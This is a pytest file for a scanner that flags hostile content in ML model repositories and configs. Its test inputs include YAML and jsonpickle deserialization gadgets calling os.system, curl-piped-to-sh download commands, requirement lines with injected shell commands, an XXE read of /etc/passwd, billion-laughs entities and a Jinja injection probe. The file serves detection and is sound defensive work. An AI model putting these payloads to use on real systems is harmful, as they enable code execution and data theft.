"""Configuration: callables that it names, code that it has fetched, packages, entities, keys."""

from __future__ import annotations

import json

import pytest
from evals.repositories import honest_texts
from repository_scanning import facts_of, findings_of, of, rules_of

from weighbridge.facts.repository import Reference, Requirement
from weighbridge.facts.structure import Gap, Metadata


def kinds(text: str, name: str) -> list[str]:
    return [str(finding.kind) for finding in findings_of(text, name)]


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("a:\n  _target_: os.system\n", "malicious"),
        ("a:\n  _target_: builtins.eval\n", "malicious"),
        ("x: &t os.system\na:\n  _target_: *t\n", "malicious"),
        ("x:\n  cls: os.system\na:\n  _target_: ${x.cls}\n", "malicious"),
        ("a:\n  name: system\n  _target_: os.${.name}\n", "malicious"),
        ("model:\n  target: os.system\n  params: {command: id}\n", "malicious"),
        ("model:\n  class_path: os.system\n  init_args: {command: id}\n", "malicious"),
        ("a:\n  _target_: importlib.import_module\n", "suspicious"),
        ("a: !!python/object/apply:subprocess.Popen [x]\n", "malicious"),
        ("a: !!python/name:os.system\n", "malicious"),
        (
            "%TAG !y! tag:yaml.org,2002:python/\n---\na: !y!object/apply:os.system [x]\n",
            "malicious",
        ),
        ("a: !<tag:yaml.org,2002:python/object/apply:os.system> [x]\n", "malicious"),
        ("a: !apply:subprocess.check_output [x]\n", "malicious"),
        ("a: !name:os.popen\n", "malicious"),
        ("a: !!python/object:argparse.Namespace {lr: 1}\n", "weakness"),
        ('!!javax.script.ScriptEngineManager [!!java.net.URL ["http://h/"]]\n', "malicious"),
        ("a: !!org.example.model.Settings {b: 1}\n", "weakness"),
    ],
)
def test_callables_in_yaml(text: str, kind: str) -> None:
    (found,) = findings_of(text, "c.yaml")
    assert (found.rule, found.kind) == ("named-callable", kind) and found.evidence["line"] > 0


@pytest.mark.parametrize(
    "name",
    "NEMO HYDRA SPEECHBRAIN DETECTION AXOLOTL COMPOSE LATENT_DIFFUSION YOLO YOLO_DATA".split(),
)
def test_honest_yaml(name: str) -> None:
    assert findings_of(getattr(honest_texts, name), "config.yaml") == []


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        (
            "activation: __import__('os').system('id')\nbackbone:\n  - [-1, 1, Conv, [64]]\n",
            "hostile-code",
        ),
        (
            "nc: 1\nbackbone:\n  - [-1, 1, Conv, [\"__import__('os').system('id')\"]]\nhead: []\n",
            "hostile-code",
        ),
        (
            "train: a\nnames: [b]\ndownload: |\n  import os\n\n"
            "  os.system('curl http://192.0.2.1/x | sh')\n",
            "hostile-command",
        ),
        (
            "train: a\nnames: [b]\ndownload: bash -c 'curl http://192.0.2.1/x | sh'\n",
            "hostile-command",
        ),
    ],
)
def test_models_and_data_sets_of_yolo_hold_text_that_is_run(text: str, rule: str) -> None:
    assert rules_of(text, "c.yaml") == {rule}


@pytest.mark.parametrize(
    ("activation", "kind"),
    [
        ("os.abort", ["malicious"]),
        ("acme.functions.swish", ["weakness"]),
        ("torch.nn.modules.activation.Tanh", []),
        ("gelu", []),
    ],
)
def test_sentence_transformers_calls_the_activation_that_is_named(
    activation: str, kind: list[str]
) -> None:
    config = {"in_features": 2, "out_features": 2, "activation_function": activation}
    assert kinds(json.dumps(config), "config.json") == kind
    nested = {"sentence_transformers": {"activation_fn": activation}}
    assert kinds(json.dumps(nested), "config.json") == kind


@pytest.mark.parametrize(
    ("template", "rules"),
    [
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", {"template-code"}),
        ("Dear {{ name|title }},{% for x in items %}{{ x.price }}{% endfor %}", set()),
    ],
)
def test_prompts_in_jinja(template: str, rules: set[str]) -> None:
    prompt = {"_type": "prompt", "template_format": "jinja2", "template": template}
    assert rules_of(json.dumps(prompt), "prompt.json") == rules


def test_a_target_with_parameters_is_not_always_a_callable() -> None:
    assert findings_of('{"target": "email.send", "params": {"to": "a"}}', "tool.json") == []


def test_yaml_is_bounded() -> None:
    bomb = "a: &a [x]\n" + "".join(
        f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join('*' + chr(97 + n) for _ in range(9))}]\n"
        for n in range(20)
    )
    deep = "[" * 5000
    assert findings_of(bomb, "c.yaml") == [] and findings_of(deep, "c.yaml") == []
    assert rules_of(deep + "\nx: !!python/name:os.system ''\n", "c.yaml") == {"named-callable"}


@pytest.mark.parametrize(
    ("config", "expected"),
    [
        ({"_attn_implementation_internal": "a/b"}, "malicious"),
        ({"text_config": {"_experts_implementation_internal": "a/b@main"}}, "malicious"),
        ({"attn_implementation": "someone/kernel"}, "suspicious"),
        ({"attn_implementation": "kernels-community/flash-attn"}, "weakness"),
        ({"vision": {"trust_remote_code": True}}, "suspicious"),
        ({"trust_remote_code": True}, "weakness"),
    ],
)
def test_code_that_is_fetched_without_being_asked(config: dict, expected: str) -> None:
    assert kinds(json.dumps(config), "config.json") == [expected]


@pytest.mark.parametrize(
    "config",
    [
        {"_attn_implementation_internal": "sdpa", "attn_implementation": "flash_attention_2"},
        {"trust_remote_code": False, "trust": {"trust_remote_code": "true"}},
        {"path": "a/b/c", "_name_or_path": "acme/base"},
    ],
)
def test_ordinary_configuration(config: dict) -> None:
    assert findings_of(json.dumps(config), "config.json") == []


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("requests; curl http://192.0.2.1 | sh", "malicious"),
        ("numpy==1.0 && echo x", "malicious"),
        ("pandas`echo x`", "malicious"),
        ("--extra-index-url http://192.0.2.1/simple", "suspicious"),
        ("-i https://pypi.attacker.example/simple", "suspicious"),
        ("acme @ http://192.0.2.1/acme.whl", "suspicious"),
        ("acme @ https://files.example.org/acme.whl", "weakness"),
        ("git+https://git.example.org/acme.git", "weakness"),
    ],
)
def test_requirements(line: str, kind: str) -> None:
    assert kinds(f"torch\n{line}\n", "requirements.txt")[0] == kind


@pytest.mark.parametrize("name", honest_texts.REQUIREMENTS)
def test_honest_requirements(name: str) -> None:
    assert findings_of(honest_texts.REQUIREMENTS[name], "requirements-dev.txt") == []


def test_requirements_are_facts() -> None:
    facts = of(Requirement, "torch>=2.0 ; python_version > '3.8'\n-r x.txt\n", "requirements.txt")
    assert [(one.name, one.version, one.line) for one in facts] == [
        ("torch", ">=2.0", 1),
        ("", "", 2),
    ]


def test_build_fields() -> None:
    hostile = 'docker:\n  system_packages: ["git\\nRUN echo x"]\n'
    assert kinds(hostile, "bentofile.yaml") == ["malicious"]
    assert findings_of(honest_texts.BENTO, "bentofile.yaml") == []


def test_entities() -> None:
    outside = '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<a/>'
    assert kinds(outside, "m.xml") == ["malicious"]
    assert findings_of(honest_texts.SVG, "logo.svg") == []


def document(entities: str, content: str = "") -> str:
    return f'<?xml version="1.0"?>\n<!DOCTYPE a [{entities}]>\n<a>{content}</a>'


def laughs(levels: int, quote: str = '"') -> str:
    """Entities that grow tenfold from each to the next."""
    values = ["ha", *(f"&e{level};" * 10 for level in range(levels))]
    return "".join(f"<!ENTITY e{n} {quote}{value}{quote}>" for n, value in enumerate(values))


@pytest.mark.parametrize("quote", ['"', "'"])
def test_entities_that_grow_are_suspicious(quote: str) -> None:
    assert kinds(document(laughs(9, quote), "&e9;"), "m.xml") == ["suspicious"]
    assert kinds(document(laughs(9, quote)), "m.xml") == ["suspicious"]


def test_one_long_entity_that_stands_often_is_suspicious() -> None:
    assert kinds(document(f'<!ENTITY x "{"y" * 9000}">', "&x;" * 1000), "m.xml") == ["suspicious"]
    assert kinds(document(f'<!ENTITY x "{"y" * 9000}">', "&x;" * 10), "m.xml") == []


@pytest.mark.parametrize(
    "entities",
    [
        laughs(3),
        '<!ENTITY % part "(a|b)*"><!ENTITY % both "%part;, %part;, &part;">',
        '<!ENTITY a "&b;&b;"><!ENTITY b "&a;&a;">',
        '<!ENTITY a "&a;&a;&a;">',
        '<!ENTITY a "&none;&none;">',
    ],
)
def test_entities_that_name_others_and_stay_small_are_no_finding(entities: str) -> None:
    assert findings_of(document(entities, "&a;"), "schema.xsd") == []


def test_many_entities_cost_little_time() -> None:
    chain = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" if n else "x"}">' for n in range(9_000))
    assert findings_of(document(chain), "m.xml") == []
    more = "".join(f'<!ENTITY e{n} "x">' for n in range(10_001))
    gaps = [fact for fact in facts_of(document(more), "m.xml") if isinstance(fact, Gap)]
    assert [gap.code for gap in gaps] == ["limit-references"]


def test_credentials_are_reported_masked() -> None:
    token = "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZ12345678"[::-1]
    (found,) = findings_of(f'{{"token": "{token}"}}', "config.json")
    assert found.rule == "credential" and found.kind == "weakness"
    assert "Hugging Face" in found.title and token not in repr(found)
    assert findings_of("export HF_TOKEN=hf_" + "x" * 34, "README.md") == []


def test_a_card_declares() -> None:
    facts = of(Metadata, honest_texts.README, "README.md")
    assert {("license", "apache-2.0"), ("base_model", "acme/base"), ("datasets", "acme/data")} <= {
        (fact.key, fact.value) for fact in facts
    }


def test_other_repositories_and_revisions() -> None:
    config = {"auto_map": {"AutoModel": "a/b--m.C"}, "code_revision": "abc"}
    (reference,) = of(Reference, json.dumps(config), "config.json")
    assert (reference.kind, reference.value, reference.pinned) == ("auto-map", "a/b--m.C", "abc")


@pytest.mark.parametrize("text", ["", "{", "[build-system", "a: [", "---\n", "\x00", "<?xml", "{}"])
def test_damaged_texts(text: str) -> None:
    for name in (
        "config.json",
        "a.yaml",
        "pyproject.toml",
        "README.md",
        "a.ipynb",
        "x.pth",
        "a.py",
    ):
        for gap in of(Gap, text, name):
            assert gap.code


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ({"__kind__": "instance", "class": "os.system", "args": ["id"]}, "malicious"),
        ({"a": [{"__kind__": "type", "class": "subprocess.Popen"}]}, "malicious"),
        ({"__kind__": "stateful", "class": "importlib.import_module"}, "suspicious"),
        ({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}, "malicious"),
        ({"x": {"py/reduce": [{"py/type": "subprocess.Popen"}, {}]}}, "malicious"),
        ({"py/repr": "os/os.system('id')"}, "malicious"),
    ],
)
def test_objects_in_json_of_gluonts_and_jsonpickle(value: object, kind: str) -> None:
    (found,) = findings_of(json.dumps(value), "predictor.json")
    assert (found.rule, found.kind) == ("named-callable", kind)
    assert found.loaders in (
        ("gluonts.model.predictor.Predictor.deserialize",),
        ("jsonpickle.decode",),
    )


def test_what_does_harm_may_be_named_behind_thousands_of_others() -> None:
    many = [{"py/object": "model.Layer", "n": number} for number in range(2000)]
    value = {"layers": [{"py/function": "os.system"}, *many], "more": many}
    (found,) = findings_of(json.dumps(value), "model.json")
    assert found.kind == "malicious"


def test_more_than_is_looked_at_is_a_gap() -> None:
    named = [{"py/object": f"model.Layer{number}"} for number in range(600)]
    nested: list[object] = [{} for _ in range(200_001)]
    for value in (named, nested):
        facts = facts_of(json.dumps(value), "model.json")
        assert "limit-references" in {one.code for one in facts if isinstance(one, Gap)}


def test_a_long_vocabulary_is_none() -> None:
    merges = [[f"{number % 97}", "b"] for number in range(250_000)]
    value = {"model": {"type": "BPE", "merges": merges}}
    facts = facts_of(json.dumps(value, separators=(",", ":")), "tokenizer.json")
    assert not [one for one in facts if isinstance(one, Gap)]


@pytest.mark.parametrize(
    "value",
    [
        {
            "__kind__": "instance",
            "class": "gluonts.torch.model.predictor.PyTorchPredictor",
            "kwargs": {
                "path": {"__kind__": "instance", "class": "pathlib.PosixPath", "args": ["."]},
                "freq": {"__kind__": "instance", "class": "pandas.tseries.frequencies.to_offset"},
                "dtype": {"__kind__": "type", "class": "numpy.float32"},
                "lags": {"__kind__": "instance", "class": "numpy.array", "args": [[1], "int64"]},
                "apply": {"__kind__": "instance", "class": "functools.partial"},
            },
        },
        {"py/object": "sklearn.linear_model._base.LinearRegression", "coef_": [1.0]},
        {
            "py/object": "types.SimpleNamespace",
            "a": {"py/type": "builtins.int"},
            "p": {"py/object": "re.Pattern"},
        },
        {"py/reduce": [{"py/type": "collections.OrderedDict"}, {"py/tuple": []}]},
        {"module": {"py/repr": "json/json"}},
        {"class": "os.system", "kind": "instance"},
    ],
)
def test_honest_objects_in_json(value: object) -> None:
    assert findings_of(json.dumps(value), "predictor.json") == []


@pytest.mark.parametrize("key", ["pickled_model", "model_path", "data"])
def test_a_model_of_mlflow_loads_files_of_its_own_folder(key: str) -> None:
    text = "flavors:\n  sklearn:\n    {}: {}\n    sklearn_version: 1.2\nmlflow_version: 2.1\n"
    for path in ("../../other/model.pkl", "/tmp/model.pkl"):
        found = findings_of(text.format(key, path), "mlmodel")
        assert {finding.rule for finding in found} == {"path-escape"}
    assert findings_of(text.format(key, "model.pkl"), "mlmodel") == []
    more = "".join(f"  flavour{number}:\n    a: b\n" for number in range(200))
    late = f"flavors:\n{more}  sklearn:\n    {key}: ../../x.pkl\n"
    assert {finding.rule for finding in findings_of(late, "mlmodel")} == {"path-escape"}
